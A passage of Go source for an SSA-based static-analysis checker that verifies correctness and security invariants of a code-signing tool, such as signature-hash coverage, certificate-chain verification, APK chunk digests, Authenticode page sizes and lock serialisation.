		if ei < 0 || len(fn.Blocks) == 0 {
			continue
		}
		n := 0
		for _, r := range returnsOf(fn) {
			if ei >= len(r.Results) {
				continue
			}
			rv := stripConv(retVal(r, ei))
			if isNilConst(rv) || !isErrorType(rv.Type()) {
				continue
			}
			// the return sits in a region entered because some OTHER error value was non-nil
			var failed ssa.Value
			for _, b := range fn.Blocks {
				ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
				if !ok || !b.Dominates(r.Block()) || b == r.Block() {
					continue
				}
				for si, truth := range []bool{true, false} {
					if !(b.Succs[si] == r.Block() || b.Succs[si].Dominates(r.Block())) || (b.Succs[1-si] == r.Block() || b.Succs[1-si].Dominates(r.Block())) {
						continue
					}
					for _, f := range factsOf(ifi.Cond, truth) {
						if f.Kind == NonNil && isErrorType(f.V.Type()) && stripConv(f.V) != rv {
							if _, isEx := stripConv(f.V).(*ssa.Extract); isEx {
								failed = stripConv(f.V)
							} else if _, isCall := stripConv(f.V).(*ssa.Call); isCall {
								failed = stripConv(f.V)
							}
						}
					}
				}
			}
			if failed == nil {
				continue
			}
			// only plain results of calls (not phis that may carry the failed value)
			switch rv.(type) {
			case *ssa.Extract, *ssa.Call:
			default:
				continue
			}
			n++
			g := Guard{Name: "returned error == nil", Match: func(f Fact) bool { return f.Kind == IsNil && stripConv(f.V) == rv }}
			missing, _ := p.unguardedFromEntry(fn, r, g)
			knownNil := len(missing) == 0
			key := fmt.Sprintf("%s failure branch#%d returns the error that failed", p.FName(fn), n)
			if why, ok := wrongErrorExceptions[fmt.Sprintf("%s#%d", p.FName(fn), n)]; ok && knownNil {
				out = append(out, gFinding{Key: key, Pos: p.Pos(r.Pos()), OK: true, Detail: "exception: " + why})
				continue
			}
			out = append(out, gFinding{Key: key, Pos: p.Pos(r.Pos()), OK: !knownNil,
				Detail: "this return is reached because " + describeVal(p, failed) + " is non-nil, but what it returns as the error is another value that was tested and found nil on every way here: the failure is reported as success (the wrong error variable is returned)"})
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R11q

// tailCutGuarded: x[:len(x)-k] and x[len(x)-k:] with a positive constant k need x to be at least k
// long: on every path some test of len(x) (any comparison), a HasSuffix / HasPrefix / Equal test of
// x, or a range over x stands in front of it; buffers of fixed or constant size are exempt.
func tailCutGuarded(p *Prog, within map[*ssa.Function]bool) (out []gFinding) {
	for _, fn := range p.Funcs {
		if within != nil && !within[fn] && !within[p.Outer(fn)] {
			continue
		}
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				sl, ok := in.(*ssa.Slice)
				if !ok {
					continue
				}
				for _, bound := range []ssa.Value{sl.Low, sl.High} {
					if bound == nil {
						continue
					}
					sub, ok := stripIntConv(bound).(*ssa.BinOp)
					if !ok || sub.Op != token.SUB {
						continue
					}
					k, isC := constInt(sub.Y)
					if isC && k <= 0 {
						continue
					}
					if !isC {
						// the length of another string (a suffix to remove): same obligation, size unknown
						yc, ok := stripIntConv(sub.Y).(*ssa.Call)
						if !ok {
							continue
						}
						if bi, ok := yc.Call.Value.(*ssa.Builtin); !ok || bi.Name() != "len" {
							continue
						}
						k = 1 << 30
					}
					lc, ok := stripIntConv(sub.X).(*ssa.Call)
					if !ok {
						continue
					}
					if bi, ok := lc.Call.Value.(*ssa.Builtin); !ok || bi.Name() != "len" {
						continue
					}
					x := lc.Call.Args[0]
					if !sameBuffer(x, sl.X) {
						continue
					}
					if fixedSize(x) >= k {
						continue
					}
					if ex, ok := stripConv(x).(*ssa.Extract); ok && k == 1 && ex.Index == 0 {
						if c, ok := ex.Tuple.(*ssa.Call); ok {
							switch p.calleeName(c.Common()) {
							case "(*bufio.Reader).ReadString", "(*bufio.Reader).ReadBytes":
								// with a nil error the result ends in the delimiter: at least one byte
								eg := p.callGuard("read err==nil", []string{p.calleeName(c.Common())}, 1, IsNil, func(ci ssa.CallInstruction) bool { return ci == ssa.CallInstruction(c) })
								if missing, _ := p.unguardedFromEntry(fn, sl, eg); len(missing) == 0 {
									continue
								}
							}
						}
					}
					n++
					g := Guard{Name: "length of the buffer tested", Match: func(f Fact) bool {
						return dependsOnNoCallArgs2(f.V, func(y ssa.Value) bool {
							c, ok := y.(*ssa.Call)
							if !ok {
								return false
							}
							if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
								return sameBuffer(c.Call.Args[0], x)
							}
							switch p.calleeName(c.Common()) {
							case "strings.HasSuffix", "strings.HasPrefix", "bytes.HasSuffix", "bytes.HasPrefix", "bytes.Equal", "strings.EqualFold":
								return sameBuffer(c.Call.Args[0], x)
							}
							return false
						})
					}}
					missing, path := p.unguardedFromEntry(fn, sl, g)
					// a comparison x == "literal" / x != "" also fixes the length
					if len(missing) > 0 {
						g2 := Guard{Name: "compared with a constant", Match: func(f Fact) bool {
							bo, ok := f.V.(*ssa.BinOp)
							if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
								return false
							}
							return sameBuffer(bo.X, x) || sameBuffer(bo.Y, x)
						}}
						missing, path = p.unguardedFromEntry(fn, sl, g2)
					}
					out = append(out, gFinding{Key: fmt.Sprintf("%s tail cut#%d of %s bytes is behind a length test", p.FName(fn), n, cutSize(k)), Pos: p.Pos(sl.Pos()), OK: len(missing) == 0, Path: path,
						Detail: fmt.Sprintf("%s bytes are cut off relative to the end of a buffer whose length no test on the way here has looked at: a shorter buffer panics with a negative slice bound, and whatever those bytes are, they are dropped unseen", cutSize(k))})
				}
			}
		}
	}
	return out
}

func sameBuffer(a, b ssa.Value) bool {
	a, b = stripConv(a), stripConv(b)
	if a == b {
		return true
	}
	// two loads of the same cell / field
	la, ok1 := a.(*ssa.UnOp)
	lb, ok2 := b.(*ssa.UnOp)
	if ok1 && ok2 && la.Op == token.MUL && lb.Op == token.MUL {
		if la.X == lb.X {
			return true
		}
		fa, ok1 := la.X.(*ssa.FieldAddr)
		fb, ok2 := lb.X.(*ssa.FieldAddr)
		if ok1 && ok2 && fa.X == fb.X && fa.Field == fb.Field {
			return true
		}
	}
	return false
}

// fixedSize: the length of x when it is a constant (array, make with a constant, string constant), else 0.
func fixedSize(x ssa.Value) int64 {
	x = stripConv(x)
	if c, ok := x.(*ssa.Const); ok {
		if s, ok := constString(c); ok {
			return int64(len(s))
		}
	}
	switch y := x.(type) {
	case *ssa.MakeSlice:
		if k, ok := constInt(y.Len); ok {
			return k
		}
	case *ssa.Slice:
		t := y.X.Type().Underlying()
		if pt, ok := t.(*types.Pointer); ok {
			if at, ok := pt.Elem().Underlying().(*types.Array); ok && y.High == nil && y.Low == nil {
				return at.Len()
			}
		}
		if y.Low == nil {
			if k, ok := constInt(y.High); ok {
				return 0*k + 0 // x[:k] panics itself when too short; not a proof of length for the base
			}
		}
	}
	if at, ok := x.Type().Underlying().(*types.Array); ok {
		return at.Len()
	}
	return 0
}

func dependsOnNoCallArgs2(v ssa.Value, pred func(ssa.Value) bool) bool {
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value, d int) bool
	walk = func(v ssa.Value, d int) bool {
		if v == nil || seen[v] || d > 12 {
			return false
		}
		seen[v] = true
		if pred(v) {
			return true
		}
		switch x := v.(type) {
		case *ssa.BinOp:
			return walk(x.X, d+1) || walk(x.Y, d+1)
		case *ssa.UnOp:
			return walk(x.X, d+1)
		case *ssa.Convert:
			return walk(x.X, d+1)
		case *ssa.Phi:
			for _, e := range x.Edges {
				if walk(e, d+1) {
					return true
				}
			}
		}
		return false
	}
	return walk(v, 0)
}

func cutSize(k int64) string {
	if k >= 1<<30 {
		return "len(suffix)"
	}
	return fmt.Sprint(k)
}

// ------------------------------------------------------------------------------ R02o

// plistCoversEveryDirectory: the signed list of code-directory hashes has to account for every code
// directory of the blob: checkPlistHashes accepts only behind a test that the list is as long as the
// set of directories it compares it with. Matching each listed hash against some directory is not
// enough - an appended, unlisted directory would be trusted (the verifier checks page hashes against
// the strongest directory present).
func plistCoversEveryDirectory(p *Prog) (out []gFinding) {
	fn := p.Func("lib/fruit/csblob.checkPlistHashes")
	if fn == nil {
		return []gFinding{{Key: "csblob.checkPlistHashes", Pos: "-", OK: false, Detail: "function not found"}}
	}
	um := p.callsIn(fn, "howett.net/plist.Unmarshal")
	if len(um) != 1 {
		return []gFinding{{Key: "checkPlistHashes decodes the signed list", Pos: p.Pos(fn.Pos()), OK: false, Detail: fmt.Sprintf("%d plist.Unmarshal calls, expected 1", len(um))}}
	}
	isLenOfList := func(v ssa.Value) bool {
		c, ok := stripIntConv(v).(*ssa.Call)
		if !ok {
			return false
		}
		if bi, ok := c.Call.Value.(*ssa.Builtin); !ok || bi.Name() != "len" {
			return false
		}
		_, f, _ := p.fieldLoad(c.Call.Args[0])
		return f == "CDHashes"
	}
	isLen := func(v ssa.Value) bool {
		c, ok := stripIntConv(v).(*ssa.Call)
		if !ok {
			return false
		}
		bi, ok := c.Call.Value.(*ssa.Builtin)
		return ok && bi.Name() == "len"
	}
	g := Guard{Name: "len(CDHashes) == number of directories", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		if !((isLenOfList(bo.X) && isLen(bo.Y)) || (isLenOfList(bo.Y) && isLen(bo.X))) {
			return false
		}
		return (bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)
	}}
	del := passEdges(fn, g)
	n := 0
	for _, r := range p.successReturns(fn) {
		if !reachableAfter(fn, um[0], r, nil, nil) {
			continue
		}
		n++
		pred := map[int]int{}
		bad := reachAfter(fn, um[0], del, pred)[r.Block().Index]
		var path []string
		if bad {
			path = p.witness(fn, pred, r.Block().Index)
		}
		out = append(out, gFinding{Key: fmt.Sprintf("checkPlistHashes accepts only a list as long as the set of code directories #%d", n), Pos: p.Pos(r.Pos()), OK: !bad, Path: path,
			Detail: "the signed hash list is accepted without a test that it has one entry per code directory: a code directory appended to the blob and not listed is not noticed, and since page hashes are checked against the strongest directory present, changed code with a matching unsigned directory verifies under the original signature"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "checkPlistHashes can accept a list", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no success return after the list is decoded"})
	}
	return out
}

// ------------------------------------------------------------------------------ R02p

// verifyCommandChecksEveryChain: for every signature the verify command reports, the certificate
// chain was verified by this very iteration, unless the signature has no X.509 part or chains were
// switched off: no other condition lets an iteration go round VerifyChain.
func verifyCommandChecksEveryChain(p *Prog) (out []gFinding) {
	fn := p.Func("cmdline/verify.verifyOne")
	if fn == nil {
		return []gFinding{{Key: "cmdline/verify.verifyOne", Pos: "-", OK: false, Detail: "function not found"}}
	}
	var calls []ssa.CallInstruction
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if ci, ok := in.(ssa.CallInstruction); ok {
				if sc := ci.Common().StaticCallee(); sc != nil && sc.Name() == "VerifyChain" {
					calls = append(calls, ci)
				}
			}
		}
	}
	if len(calls) == 0 {
		return []gFinding{{Key: "verifyOne verifies certificate chains", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no VerifyChain call"}}
	}
	for i, vc := range calls {
		// the loop the call sits in: its header holds the Next that yields the signature
		var header *ssa.BasicBlock
		for _, b := range fn.Blocks {
			if b == vc.Block() || !b.Dominates(vc.Block()) || len(b.Succs) != 2 {
				continue
			}
			// a loop header: the call's block leads back to it
			if !reach(fn, vc.Block().Succs, nil, nil)[b.Index] {
				continue
			}
			if header == nil || b.Dominates(header) {
				header = b
			}
		}
		key := fmt.Sprintf("verifyOne VerifyChain#%d runs for every signature with a certificate unless chains are off", i+1)
		if header == nil || len(header.Succs) != 2 {
			out = append(out, gFinding{Key: key, Pos: p.Pos(vc.Pos()), OK: false, Detail: "the call is not inside a range loop over the signatures"})
			continue
		}
		body := header.Succs[0]
		if !(body == vc.Block() || body.Dominates(vc.Block())) {
			body = header.Succs[1]
		}
		del := map[edge]bool{}
		// passing the call with a nil error
		okg := Guard{Name: "VerifyChain err==nil", Match: func(f Fact) bool {
			return f.Kind == IsNil && stripConv(f.V) == ssa.Value(vc.(*ssa.Call))
		}}
		for e := range passEdges(fn, okg) {
			del[e] = true
		}
		// the two legitimate ways round it
		for _, b := range fn.Blocks {
			ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
			if !ok {
				continue
			}
			for si, truth := range []bool{true, false} {
				for _, f := range factsOf(ifi.Cond, truth) {
					_, fld, _ := p.fieldLoad(f.V)
					if (fld == "X509Signature" && f.Kind == IsNil) || (fld == "NoChain" && f.Kind == IsTrue) {
						del[edge{b.Index, si}] = true
					}
				}
			}
		}
		pred := map[int]int{}
		seen := reach(fn, []*ssa.BasicBlock{body}, del, pred)
		bad := seen[header.Index]
		var path []string
		if bad {
			path = p.witness(fn, pred, header.Index)
		}
		out = append(out, gFinding{Key: key, Pos: p.Pos(vc.Pos()), OK: !bad, Path: path,
			Detail: "an iteration over a signature can finish (and print OK) without VerifyChain having returned nil for it, for a reason other than the signature having no certificate or --no-chain: a verdict carried over from another file or signature (a cache keyed by issuer and serial, say) lets a lookalike certificate from an untrusted authority pass"})
	}
	return out
}

// ------------------------------------------------------------------------------ R09m

// blockerCloseBlocks: compresshttp's readBlocker exists so that the compressor goroutine of a
// finished attempt cannot go on reading the shared input file while the next attempt re-reads it.
// Its Close therefore sets the closed flag on every path on which it can return nil.
func blockerCloseBlocks(p *Prog) (out []gFinding) {
	fn := p.Func("lib/compresshttp.(*readBlocker).Close")
	if fn == nil {
		return []gFinding{{Key: "(*readBlocker).Close", Pos: "-", OK: false, Detail: "function not found"}}
	}
	var sets []ssa.Instruction
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case ssa.CallInstruction:
				n := p.calleeName(x.Common())
				if strings.HasPrefix(n, "sync/atomic.Store") || strings.HasPrefix(n, "sync/atomic.Swap") || strings.HasPrefix(n, "sync/atomic.CompareAndSwap") || strings.HasSuffix(n, ").Store") {
					if len(x.Common().Args) > 0 {
						if _, f, _ := p.fieldAddr(x.Common().Args[0]); f == "closed" {
							sets = append(sets, in)
						}
					}
				}
			case *ssa.Store:
				if _, f, _ := p.fieldAddr(x.Addr); f == "closed" {
					sets = append(sets, in)
				}
			}
		}
	}
	if len(sets) == 0 {
		return []gFinding{{Key: "(*readBlocker).Close sets the closed flag", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no store into readBlocker.closed found"}}
	}
	del := map[edge]bool{}
	for _, s := range sets {
		for si := range s.Block().Succs {
			del[edge{s.Block().Index, si}] = true
		}
	}
	seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)
	n := 0
	for _, r := range p.successReturns(fn) {
		n++
		after := false
		for _, s := range sets {
			if s.Block() == r.Block() && instrIndex(s) < instrIndex(r) {
				after = true
			}
		}
		out = append(out, gFinding{Key: fmt.Sprintf("(*readBlocker).Close return#%d that can be nil has set the closed flag", n), Pos: p.Pos(r.Pos()), OK: after || !seen[r.Block().Index],
			Detail: "Close can return nil without having set the closed flag: the compressor goroutine of an attempt that has ended keeps reading the input file the client shares between attempts, so the retry that rewound the file uploads a stream with holes in it and the server digests and signs that"})
	}
	return out
}

// ------------------------------------------------------------------------------ R03m

// globalOrigin: the package-level variable whose value v may be: through phis and through the results
// of module functions (to depth 2).
func (p *Prog) globalOrigin(v ssa.Value, depth int, seen map[ssa.Value]bool) *ssa.Global {
	v = stripConv(v)
	if v == nil || seen[v] || depth > 3 {
		return nil
	}
	seen[v] = true
	switch x := v.(type) {
	case *ssa.UnOp:
		if x.Op == token.MUL {
			if g, ok := x.X.(*ssa.Global); ok && p.InModule(g.Pkg.Pkg) {
				return g
			}
			if a, ok := x.X.(*ssa.Alloc); ok {
				for _, r := range *a.Referrers() {
					if st, ok := r.(*ssa.Store); ok && st.Addr == ssa.Value(a) {
						if g := p.globalOrigin(st.Val, depth, seen); g != nil {
							return g
						}
					}
				}
			}
		}
	case *ssa.Phi:
		for _, e := range x.Edges {
			if g := p.globalOrigin(e, depth, seen); g != nil {
				return g
			}
		}
	case *ssa.Extract:
		return p.globalOrigin(x.Tuple, depth, seen)
	case *ssa.Call:
		if sc := x.Common().StaticCallee(); sc != nil && len(sc.Blocks) > 0 && p.InModule(pkgOf(sc)) {
			for _, r := range returnsOf(sc) {
				for _, rv := range r.Results {
					if _, isMap := rv.Type().Underlying().(*types.Map); !isMap {
						continue
					}
					if g := p.globalOrigin(rv, depth+1, seen); g != nil {
						return g
					}
				}
			}
		}
	}
	return nil
}

// sharedTablesNotWritten: on the signing paths nothing is stored into a map that may be a
// package-level table (directly, or handed out by a helper): such a table outlives the operation,
// so what one package adds to it turns up in the next package that is signed.
func sharedTablesNotWritten(p *Prog, within map[*ssa.Function]bool) (out []gFinding) {
	once := p.onceClosures()
	for _, fn := range p.Funcs {
		if within != nil && !within[fn] && !within[p.Outer(fn)] {
			continue
		}
		if fn.Name() == "init" || strings.HasPrefix(fn.Name(), "init#") || once[fn] {
			continue // initialisation, also when it is done lazily under a sync.Once
		}
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				mu, ok := in.(*ssa.MapUpdate)
				if !ok {
					continue
				}
				n++
				g := p.globalOrigin(mu.Map, 0, map[ssa.Value]bool{})
				name := ""
				if g != nil {
					name = g.Name()
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s map store#%d goes into a map of its own", p.FName(fn), n), Pos: p.Pos(mu.Pos()), OK: g == nil,
					Detail: "the map written here may be the package-level table " + name + " itself (it reaches this store directly or as the result of a helper): entries added while one artifact is signed stay for every later one in the same process, whose output then carries content types / entries that belong to another package"})
			}
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R05s, R05t

// apkNoEmptyChunk: the APK v2 content digest is over consecutive chunks of at most 1 MiB; a section
// whose length is a multiple of the chunk size ends with a full chunk, not with an additional empty
// one. Wherever the hasher emits the partial buffer (a chunk of h.n bytes) it has tested h.n != 0.
func apkNoEmptyChunk(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.pkgFuncs("signers/apk") {
		for _, ci := range p.callsIn(fn, "(*signers/apk.merkleHasher).block") {
			sl, ok := ci.Common().Args[1].(*ssa.Slice)
			if !ok || sl.High == nil {
				continue
			}
			if _, f, _ := p.fieldLoad(sl.High); f != "n" {
				continue
			}
			n++
			g := Guard{Name: "h.n != 0", Match: func(f Fact) bool {
				bo, ok := f.V.(*ssa.BinOp)
				if !ok {
					return false
				}
				var other ssa.Value
				if _, fl, _ := p.fieldLoad(bo.X); fl == "n" {
					other = bo.Y
				} else if _, fl, _ := p.fieldLoad(bo.Y); fl == "n" {
					other = bo.X
				} else {
					return false
				}
				if k, ok := constInt(other); !ok || k != 0 {
					return false
				}
				switch bo.Op {
				case token.NEQ, token.GTR, token.LSS:
					return f.Kind == IsTrue
				case token.EQL, token.LEQ, token.GEQ:
					return f.Kind == IsFalse
				}
				return false
			}}
			missing, path := p.unguardedFromEntry(fn, ci, g)
			out = append(out, gFinding{Key: fmt.Sprintf("%s emits the partial buffer#%d only when it holds bytes", p.FName(fn), n), Pos: p.Pos(ci.Pos()), OK: len(missing) == 0, Path: path,
				Detail: "the buffered bytes are emitted as a chunk without a test that there are any: a section whose length is an exact multiple of 1 MiB gets an additional empty chunk (0xa5, length 0), the chunk count and the top-level digest differ from what the APK Signature Scheme v2 prescribes, and every other verifier rejects what relic (whose verifier shares the hasher) accepts"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "apk merkle hasher emits its partial buffer", Pos: "-", OK: false, Detail: "no call of merkleHasher.block with buf[:n] found"})
	}
	return out
}

// pePageSizeFromMachine: Authenticode page hashes are over the pages of the machine the image is
// for: 4096 bytes, 8192 on Itanium and Alpha. The page size is a constant chosen by FileHeader.Machine
// and by nothing else in the image.
func pePageSizeFromMachine(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.pkgFuncs("lib/authenticode") {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				if tn, f, _ := p.fieldAddr(st.Addr); f != "pageSize" || !strings.HasSuffix(tn, "peHeaderValues") {
					continue
				}
				n++
				k, isC := constInt(st.Val)
				okv := isC && (k == 4096 || k == 8192)
				why := "the value stored is not one of the constants 4096 and 8192"
				if okv && k == 8192 {
					// reached only through comparisons of Machine with the 8 KiB architectures
					del := map[edge]bool{}
					for _, bb := range fn.Blocks {
						ifi, ok := bb.Instrs[len(bb.Instrs)-1].(*ssa.If)
						if !ok {
							continue
						}
						for si, truth := range []bool{true, false} {
							for _, f := range factsOf(ifi.Cond, truth) {
								cmp, ok := f.V.(*ssa.BinOp)
								if !ok || cmp.Op != token.EQL || f.Kind != IsTrue {
									continue
								}
								for _, pair := range [][2]ssa.Value{{cmp.X, cmp.Y}, {cmp.Y, cmp.X}} {
									if _, fl, _ := p.fieldLoad(pair[0]); fl == "Machine" {
										if m, ok := constInt(pair[1]); ok && (m == 0x200 || m == 0x184 || m == 0x284) {
											del[edge{bb.Index, si}] = true
										}
									}
								}
							}
						}
					}
					if reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)[b.Index] {
						okv = false
						why = "8192 is chosen on a path that has not found the machine to be Itanium (0x200) or Alpha (0x184, 0x284)"
					}
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s page size#%d is the machine's", p.FName(fn), n), Pos: p.Pos(st.Pos()), OK: okv,
					Detail: "the page size used for the page hash table is not the constant the machine type prescribes (" + why + "): a table built over pages of another size (the image's SectionAlignment, say) is self-consistent for relic's verifier and is not the table Windows recomputes"})
			}
		}
	}
	if n < 2 {
		out = append(out, gFinding{Key: "authenticode page size assignments", Pos: "-", OK: false, Detail: fmt.Sprintf("%d stores into peHeaderValues.pageSize found, expected the 4096 and the 8192 one", n)})
	}
	return out
}

// ------------------------------------------------------------------------------ R13g, R13h

// boundedCopiesChecked: on the paths of PatchSet.Apply a copy that has to deliver a known number of
// bytes reports a source that ends early: it is made with io.CopyN, or, when it goes through an
// io.LimitReader, the number of bytes copied is looked at. io.Copy over a LimitReader returns nil
// for a short source, and the truncated result would be committed.
func boundedCopiesChecked(p *Prog, within map[*ssa.Function]bool) (out []gFinding) {
	for _, fn := range p.Funcs {
		if within != nil && !within[fn] && !within[p.Outer(fn)] {
			continue
		}
		n := 0
		for _, ci := range p.callsIn(fn, "io.Copy", "io.CopyBuffer") {
			src := stripConv(ci.Common().Args[1])
			lim := false
			if c, ok := src.(*ssa.Call); ok && p.calleeName(c.Common()) == "io.LimitReader" {
				lim = true
			}
			if a, ok := src.(*ssa.Alloc); ok && strings.HasSuffix(a.Type().String(), "io.LimitedReader") {
				lim = true
			}
			if !lim {
				continue
			}
			n++
			used := false
			if call, ok := ci.(*ssa.Call); ok {
				for _, r := range *call.Referrers() {
					if ex, ok := r.(*ssa.Extract); ok && ex.Index == 0 && valueIsUsed(ex, map[ssa.Value]bool{}) {
						used = true
					}
				}
			}
			out = append(out, gFinding{Key: fmt.Sprintf("%s bounded copy#%d notices a short source", p.FName(fn), n), Pos: p.Pos(ci.Pos()), OK: used,
				Detail: "a fixed number of bytes is copied through an io.LimitReader and the count that came out is not looked at: when the input is shorter than it was when the patch was made the copy returns nil, the pieces that follow are written at the wrong place and a truncated file is renamed over the destination (io.CopyN reports io.EOF instead)"})
		}
	}
	return out
}

// inPlaceOnlyForTheSameName: the input is opened for writing, and handed on as the output, only
// when the output path is the input path as a string. Any other notion of "the same file" (SameFile
// on hard links and symbolic links) makes relic edit a file the caller named as input only.
func inPlaceOnlyForTheSameName(p *Prog) (out []gFinding) {
	strEq := func(fn *ssa.Function) Guard {
		return Guard{Name: "the two names are equal", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok || !((bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)) {
				return false
			}
			isStr := func(v ssa.Value) bool {
				b, ok := v.Type().Underlying().(*types.Basic)
				return ok && b.Kind() == types.String
			}
			if !isStr(bo.X) || !isStr(bo.Y) {
				return false
			}
			if _, isK := bo.X.(*ssa.Const); isK {
				return false
			}
			if _, isK := bo.Y.(*ssa.Const); isK {
				return false
			}
			return true
		}}
	}
	if fn := p.Func("cmdline/shared.OpenForPatching"); fn == nil {
		out = append(out, gFinding{Key: "shared.OpenForPatching", Pos: "-", OK: false, Detail: "function not found"})
	} else {
		n := 0
		for _, ci := range p.callsIn(fn, "os.OpenFile") {
			flags, ok := constInt(ci.Common().Args[1])
			if ok && flags&0x3 == 0 {
				continue // read-only
			}
			n++
			missing, path := p.unguardedFromEntry(fn, ci, strEq(fn))
			out = append(out, gFinding{Key: fmt.Sprintf("OpenForPatching opens the input for writing#%d only when it is named as the output", n), Pos: p.Pos(ci.Pos()), OK: len(missing) == 0, Path: path,
				Detail: "the input file is opened read-write on a path that has not found the output name equal to the input name: with an output that is another name of the same file (a hard link, a symbolic link) the input is then edited in place, nothing is written to a temporary file and renamed, and an interrupted run leaves a torn file under both names"})
		}
		if n == 0 {
			out = append(out, gFinding{Key: "OpenForPatching opens the input for writing", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no read-write os.OpenFile found"})
		}
	}
	if fn := p.Func("lib/atomicfile.WriteInPlace"); fn == nil {
		out = append(out, gFinding{Key: "atomicfile.WriteInPlace", Pos: "-", OK: false, Detail: "function not found"})
	} else {
		n := 0
		for _, r := range p.successReturns(fn) {
			// returns that hand the source file itself on as the output
			handsSrc := dependsOn(retVal(r, 0), func(x ssa.Value) bool {
				pa, ok := x.(*ssa.Parameter)
				return ok && strings.HasSuffix(pa.Type().String(), "os.File")
			})
			if !handsSrc {
				continue
			}
			n++
			missing, path := p.unguardedFromEntry(fn, r, strEq(fn))
			out = append(out, gFinding{Key: fmt.Sprintf("WriteInPlace hands the source on as the output#%d only when it is named as the destination", n), Pos: p.Pos(r.Pos()), OK: len(missing) == 0, Path: path,
				Detail: "the source file is returned as the file to write to on a path that has not found the destination name equal to the source's name: a destination that is a link to the source is then written in place instead of through a temporary file"})
		}
		if n == 0 {
			out = append(out, gFinding{Key: "WriteInPlace can hand the source on as the output", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no such return found"})
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R14l

// scdConnectionSerialised: one smart-card operation is several commands on the one connection a
// scdtoken owns (SETDATA then PKSIGN, the PIN inquiry in between). Every call from token/scdtoken
// into lib/assuan that goes over that connection runs with the token's mutex held, so commands of
// overlapping requests cannot interleave.
func scdConnectionSerialised(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.pkgFuncs("token/scdtoken") {
		if len(fn.Blocks) == 0 {
			continue
		}
		// the operations of a token that is in service: exported methods of the token and key types
		// (Open, login and List work on a connection nobody else has yet)
		if fn.Signature.Recv() == nil || !ast.IsExported(fn.Name()) {
			continue
		}
		var held map[ssa.Instruction]lockState
		k := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
				if !strings.Contains(name, "lib/assuan.") || !strings.HasPrefix(name, "(") {
					continue // methods of the connection / key objects only
				}
				if len(ci.Common().Args) == 0 {
					continue
				}
				// calls on a connection this function has just opened are not shared yet
				if c, ok := stripConv(ci.Common().Args[0]).(*ssa.Extract); ok {
					if _, isCall := c.Tuple.(*ssa.Call); isCall {
						continue
					}
				}
				n++
				k++
				if held == nil {
					held = p.heldLocks(fn)
				}
				okLock := false
				for lk := range held[in] {
					if strings.HasSuffix(lk, "scdToken.mu") {
						okLock = true
					}
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s calls %s#%d with the token's mutex held", p.FName(fn), shortCallee(name), k), Pos: p.Pos(in.Pos()), OK: okLock,
					Detail: "a command sequence is sent over the token's one scdaemon connection without the token's mutex: two overlapping requests interleave their SETDATA / PKSIGN commands, and a caller is answered with a signature over another request's digest"})
			}
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "token/scdtoken calls into lib/assuan", Pos: "-", OK: false, Detail: "none found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R14m

// durationsCarryAUnit: an integer that is not a time.Duration already (a configuration field, a
// count) becomes one only together with a unit: the conversion is an operand of a multiplication
// with a constant unit of at least a microsecond, or its operand is itself such a product or was
// derived from a Duration. A bare time.Duration(n) of a number of seconds is n nanoseconds.
func durationsCarryAUnit(p *Prog, within map[*ssa.Function]bool) (out []gFinding) {
	isDur := func(t types.Type) bool { return types.TypeString(t, nil) == "time.Duration" }
	for _, fn := range p.Funcs {
		if within != nil && !within[fn] && !within[p.Outer(fn)] {
			continue
		}
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				cv, ok := in.(*ssa.Convert)
				if !ok || !isDur(cv.Type()) || isDur(cv.X.Type()) {
					continue
				}
				if _, isK := cv.X.(*ssa.Const); isK {
					continue
				}
				bt, ok := cv.X.Type().Underlying().(*types.Basic)
				if !ok || bt.Info()&types.IsInteger == 0 {
					continue // floats: computed fractions of a duration
				}
				// the operand was derived from a Duration (arithmetic on nanoseconds), or from a clock / random source
				if dependsOn(cv.X, func(x ssa.Value) bool {
					if x == ssa.Value(cv) {
						return false
					}
					if isDur(x.Type()) {
						return true
					}
					if c, ok := x.(*ssa.Call); ok {
						nm := p.calleeName(c.Common())
						return strings.HasPrefix(nm, "math/rand.") || strings.HasPrefix(nm, "(*math/rand.") || strings.HasPrefix(nm, "(time.")
					}
					return false
				}) {
					continue
				}
				n++
				unit := false
				refs := cv.Referrers()
				if refs != nil {
					for _, r := range *refs {
						if bo, ok := r.(*ssa.BinOp); ok && bo.Op == token.MUL {
